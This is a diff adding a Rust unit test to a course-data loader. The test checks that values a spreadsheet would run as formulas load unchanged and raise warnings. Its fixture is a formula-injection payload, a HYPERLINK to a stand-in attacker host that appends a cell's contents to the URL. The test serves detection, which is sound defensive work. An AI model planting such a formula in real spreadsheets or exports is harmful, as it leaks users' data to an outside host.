@@ -273,6 +273,41 @@ fn no_term_match_leaves_term1_empty_and_warns_but_loads() {
     assert_eq!(s.warnings.len(), 1);
 }
 
+#[test]
+fn a_value_a_spreadsheet_would_run_as_a_formula_loads_verbatim_with_a_warning() {
+    let title = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Syllabus\")";
+    let input = cem(&[row(
+        "2026Fall-X-ENG101-1",
+        "APPROVED",
+        "1",
+        "@someone",
+        &[("COURSE_NAME", title)],
+    )]);
+    let mut out = Vec::new();
+    let s = transform(
+        &mut Cursor::new(&input),
+        &asu(),
+        DeleteGuard::Offline,
+        &mut out,
+    )
+    .unwrap();
+    let text = String::from_utf8(out).unwrap();
+    assert!(
+        text.contains(&format!("\t{title}\t")),
+        "the loader file carries the title byte for byte: {text}"
+    );
+    let warnings: Vec<String> = s.warnings.iter().map(ToString::to_string).collect();
+    assert_eq!(
+        warnings,
+        [
+            "line 2 2026Fall-X-ENG101-1: COURSE_NAME starts with '=' (a spreadsheet would run \
+             it as a formula); the loader file carries it as it is",
+            "line 2 2026Fall-X-ENG101-1: ASURITEID starts with '@' (a spreadsheet would run \
+             it as a formula); the loader file carries it as it is",
+        ]
+    );
+}
+
 // ---- rules file --------------------------------------------------------------------
 
 #[test]
